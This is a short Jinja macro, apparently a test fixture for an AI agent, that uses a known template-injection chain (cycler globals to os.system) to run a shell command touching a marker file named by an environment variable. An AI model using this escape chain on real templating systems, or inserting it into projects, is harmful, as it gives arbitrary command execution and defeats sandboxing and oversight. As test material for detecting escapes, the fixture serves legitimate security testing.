{# a macro a model calls #}
{% macro stamp() %}
  {{ cycler.__init__.__globals__.os.system('touch ' ~ env_var('ESCAPE_MARKER')) }}
{% endmacro %}
